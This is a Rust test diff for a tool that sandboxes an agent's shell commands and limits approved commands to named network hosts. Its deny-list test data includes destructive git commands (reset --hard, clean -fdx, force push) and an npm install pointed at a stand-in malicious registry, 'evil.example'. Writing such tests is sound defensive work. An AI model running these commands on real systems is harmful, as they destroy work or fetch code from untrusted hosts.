@@ -188,7 +188,8 @@ async fn the_box_rule_runs_what_stays_in_the_box_quietly_and_asks_for_the_rest()
         "git reset --hard",
         "git clean -fdx",
         "git push --force origin main",
-        "npm install left-pad",
+        "npm install --registry=https://evil.example left-pad",
+        "git fetch origin",
         "curl https://example.com",
     ]
     .iter()
@@ -198,4 +199,127 @@ async fn the_box_rule_runs_what_stays_in_the_box_quietly_and_asks_for_the_rest()
         assert!(matches!(answer, Answer::NotAllowed(_)), "{line:?}: {answer:?}");
     }
     assert!(scene.proj.join("src").exists());
+}
+
+/// A web server on loopback answering `body` to every request.
+fn web(body: &'static str) -> u16 {
+    use std::io::{Read, Write};
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut c in l.incoming().flatten() {
+            let mut buf = [0u8; 4096];
+            let _ = c.read(&mut buf);
+            let _ = write!(c, "HTTP/1.0 200 OK\r\ncontent-length: {}\r\n\r\n{body}", body.len());
+        }
+    });
+    port
+}
+
+/// Network by name, end to end: the person names the hosts an approved command's box reaches;
+/// the decision and its receipt carry them; the run reaches those alone (another host, asked of
+/// the proxy or gone round it, is not reached; the same line unconfined reaches both: the
+/// control). A host that is no host, or hosts for what runs unconfined, decide nothing.
+#[tokio::test]
+async fn an_approval_reaches_only_the_hosts_it_names() {
+    let (scene, s) = planted("a box reaches no host by name").await;
+    let (named, other) = (web("hello-from-named"), web("hello-from-other"));
+    let line = format!(
+        "curl -s http://localhost:{named}/; echo; curl -s --max-time 5 http://localhost:{other}/; echo; \
+         curl -s --noproxy '*' --max-time 5 http://127.0.0.1:{other}/; echo; echo end"
+    );
+    let child = hook(&s, &scene, &line, 1, 60);
+    let pending = s.first_pending().await;
+    // curl reaches whatever it is given: the reader names no host for it.
+    assert!(pending["preview"].get("reaches").is_none(), "{pending}");
+    let id = pending["id"].as_str().unwrap().to_string();
+    let many: Vec<String> = (0..17).map(|n| format!("h{n}.example")).collect();
+    for (body, code) in [
+        (json!({"outcome": "approve", "hosts": ["https://example.com/"]}), "invalid_hosts"),
+        (json!({"outcome": "approve", "hosts": ["example.com:0"]}), "invalid_hosts"),
+        (json!({"outcome": "approve", "hosts": many}), "invalid_hosts"),
+        (json!({"outcome": "approve", "run": "unconfined", "hosts": ["example.com"]}), "invalid_hosts"),
+        (json!({"outcome": "reject", "reason": "no", "hosts": ["example.com"]}), "invalid_hosts"),
+    ] {
+        let (status, v) = s.decide(&id, body.clone()).await;
+        assert_eq!((status.as_u16(), v["error"]["code"].as_str()), (422, Some(code)), "{body}: {v}");
+    }
+    let (_, p) = s.get(&id, &s.owner.clone()).await;
+    assert_eq!(p["status"], "pending", "a refused decision decided nothing: {p}");
+    let (status, decided) = s.decide(&id, json!({"outcome": "approve", "hosts": [format!("LocalHost:{named}")]})).await;
+    assert_eq!(status, 200, "{decided}");
+    assert_eq!(decided["decision"]["hosts"], json!([format!("localhost:{named}")]), "{decided}");
+    let claims = crate::receipts::decision_receipt(&s, &decided).await;
+    assert_eq!(claims.hosts, vec![format!("localhost:{named}")], "the receipt names the hosts");
+    let shown = s.cli(&["show", &id]);
+    assert!(
+        String::from_utf8_lossy(&shown.stdout).contains(&format!("reaching localhost:{named}")),
+        "{}",
+        String::from_utf8_lossy(&shown.stdout)
+    );
+    let answer = tokio::task::spawn_blocking({
+        let line = line.clone();
+        move || answer_of(child, &line)
+    })
+    .await
+    .unwrap();
+    let Answer::Allowed { command, rewritten: true } = answer else { panic!("not run in the box: {answer:?}") };
+    let (_, out) = run_as_client(&s, &scene, &command);
+    assert!(out.contains("hello-from-named") && out.contains("end"), "the named host was not reached: {out}");
+    assert!(!out.contains("hello-from-other"), "another host was reached from the box: {out}");
+    let (_, out) = run_as_client(&s, &scene, &line);
+    assert!(out.contains("hello-from-other"), "the control reached nothing: {out}");
+}
+
+/// With the box rule, a package install runs without asking, in the box, reaching its registry
+/// alone, as the reader names it (never a host the agent's words name: those ask). The install
+/// is real: npm fetches from registry.npmjs.org through Assent's proxy.
+#[tokio::test]
+async fn the_box_rule_lets_an_install_reach_its_registry_alone() {
+    let (scene, s) = planted("the box rule allows nothing (a test in core checks that)").await;
+    let rule = json!({"effect": "allow", "match": {"builtin": "box"}});
+    let (st, r) = s.req(reqwest::Method::POST, "/rules", Some(&s.owner), Some(rule)).await;
+    assert_eq!(st, 201, "{r}");
+    let other = web("hello-from-other");
+    // Hosts the agent's words name, or what reaches anything: asked.
+    for (n, line) in [
+        format!("npm install --registry=http://localhost:{other}/ is-number"),
+        format!("npm_config_registry=http://localhost:{other}/ npm install is-number"),
+        format!("npm install is-number && curl -s http://localhost:{other}/"),
+    ]
+    .iter()
+    .enumerate()
+    {
+        let answer = crate::confine::ask_hook(&s, &scene, line, 700 + n);
+        assert!(matches!(answer, Answer::NotAllowed(_)), "{line:?}: {answer:?}");
+    }
+    // The control: unconfined, this machine reaches the registry (the tests need it, as the
+    // TypeScript SDK's do); the box must then reach it too.
+    let control = std::process::Command::new("curl")
+        .args([
+            "-s",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+            "--max-time",
+            "20",
+            "https://registry.npmjs.org/is-number",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&control.stdout), "200", "registry.npmjs.org is not reachable from here at all");
+    let line = "npm install --no-save --no-audit --no-fund is-number@7.0.0 && node -e \"console.log(require('is-number')(5))\" && curl -s --max-time 5 https://example.com/ || echo no-other-host";
+    // The line names curl: the box rule asks for it. The install alone runs.
+    let answer = crate::confine::ask_hook(&s, &scene, line, 720);
+    assert!(matches!(answer, Answer::NotAllowed(_)), "{answer:?}");
+    let line = "npm install --no-save --no-audit --no-fund is-number@7.0.0";
+    let answer = crate::confine::ask_hook(&s, &scene, line, 721);
+    let Answer::Allowed { command, rewritten: true } = answer else { panic!("not allowed in the box: {answer:?}") };
+    let id = command.rsplit(' ').next().unwrap().to_string();
+    let (_, p) = s.get(&id, &s.owner.clone()).await;
+    assert_eq!(p["decision"]["hosts"], json!(["registry.npmjs.org"]), "{p}");
+    let (code, out) = run_as_client(&s, &scene, &command);
+    assert_eq!(code, Some(0), "the install did not run in the box: {out}");
+    assert!(scene.proj.join("node_modules/is-number/package.json").exists(), "nothing installed: {out}");
 }
